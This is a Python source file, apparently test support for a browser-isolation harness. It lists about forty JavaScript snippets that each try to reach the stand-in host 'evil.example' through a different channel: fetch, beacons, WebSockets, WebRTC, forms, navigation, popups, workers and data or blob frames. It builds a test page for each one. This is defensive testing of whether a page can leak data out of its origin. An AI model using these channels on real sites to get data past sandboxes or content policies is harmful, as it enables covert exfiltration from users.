"""What a page can try to get out of its origin: each attack is JavaScript that reaches for the host EVIL."""

LEAKS = {
    "page-fetch": "fetch(`http://${EVIL}/`, { mode: 'no-cors' })",
    "page-xhr": "const x = new XMLHttpRequest(); x.open('GET', `http://${EVIL}/`); x.send()",
    "page-image": "new Image().src = `http://${EVIL}/`",
    "page-script": "add('script', { src: `http://${EVIL}/` })",
    "page-import": "import(`http://${EVIL}/x.js`)",
    "page-style-sheet": "link('stylesheet')",
    "page-css-url": "document.body.style.backgroundImage = `url(http://${EVIL}/)`",
    "page-font": "new FontFace('x', `url(http://${EVIL}/)`).load()",
    "page-video": "add('video', { src: `http://${EVIL}/`, autoplay: true })",
    "page-svg-image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='http://${EVIL}/'/></svg>`)",
    "page-frame": "add('iframe', { src: `http://${EVIL}/` })",
    "page-object": "add('object', { data: `http://${EVIL}/` })",
    "page-embed": "add('embed', { src: `http://${EVIL}/` })",
    "page-websocket": "new WebSocket(`ws://${EVIL}/`)",
    "page-event-source": "new EventSource(`http://${EVIL}/`)",
    "page-web-transport": "new WebTransport(`https://${EVIL}:443/`)",
    "page-webrtc": "const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${PORT}` }] });"
    " p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    "page-beacon": "navigator.sendBeacon(`http://${EVIL}/`, 'x')",
    "page-ping": "click({ href: '#x', ping: `http://${EVIL}/` })",
    "page-form": "const f = add('form', { action: `http://${EVIL}/`, method: 'post' }); f.submit()",
    "page-form-in-new-tab": "const f = add('form', { action: `http://${EVIL}/`, target: '_blank' }); f.submit()",
    "page-navigates": "location.href = `http://${EVIL}/`",
    "page-navigates-by-link": "click({ href: `http://${EVIL}/` })",
    "page-navigates-by-refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
    " m.content = `0;url=http://${EVIL}/`; document.head.append(m)",
    "page-navigates-by-redirect": "location.href = `/away?${EVIL}`",
    "page-fetches-by-redirect": "fetch(`/away?${EVIL}`, { mode: 'no-cors' })",
    "page-navigates-parent": "parent.location = `http://${EVIL}/`",
    "page-navigates-top": "top.location = `http://${EVIL}/`",
    "page-inner-frame-navigates": "add('iframe', { srcdoc: `<script>location.href='http://${EVIL}/'</script>` })",
    "page-popup": "window.open(`http://${EVIL}/`)",
    "page-new-tab-link": "click({ href: `http://${EVIL}/`, target: '_blank' })",
    "page-download-elsewhere": "click({ href: `http://${EVIL}/`, download: 'x' })",
    "page-prefetch": "link('prefetch')",
    "page-preload": "link('preload', { as: 'image' })",
    "page-module-preload": "link('modulepreload')",
    "page-preconnect": "link('preconnect')",
    "page-blob-worker": "new Worker(blob(`fetch('http://${EVIL}/', { mode: 'no-cors' })`))",
    "page-blob-worker-imports": "new Worker(blob(`importScripts('http://${EVIL}/')`))",
    "page-worker": "new Worker(`/worker.js?${EVIL}`)",
    "page-shared-worker": "new SharedWorker(`/worker.js?${EVIL}`)",
    "page-srcdoc": "add('iframe', { srcdoc: `<script>fetch('http://${EVIL}/', { mode: 'no-cors' })</script>` })",
    "page-data-frame": "add('iframe', { src: `data:text/html,<script>new Image().src='http://${EVIL}/'</script>` })",
    "page-blob-frame": "add('iframe', { src: blob(`<script>new Image().src='http://${EVIL}/'</script>`) })",
}
_SCRIPT = """
const NAME = location.pathname.slice(1), EVIL = `${NAME}.evil.example`, PORT = location.hash.slice(1);
const add = (tag, more) => {
  const made = Object.assign(document.createElement(tag), more); document.body.append(made); return made; };
const link = (rel, more) => add("link", { rel, href: `http://${EVIL}/`, ...more });
const click = (more) => add("a", more).click();
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/html" }));
addEventListener("load", async () => { try { ATTACK } catch (error) { console.log(error.message); } });
"""
WORKER = "fetch(`http://${location.search.slice(1)}/`, { mode: 'no-cors' });"


def page(attack: str) -> str:
    """The page that tries it; its path is the first label of EVIL, its fragment the port of that."""
    script = _SCRIPT.replace("ATTACK", LEAKS[attack]).replace("</script>", "<\\/script>")
    return f"<!doctype html><title>x</title><body><script>{script}</script>"
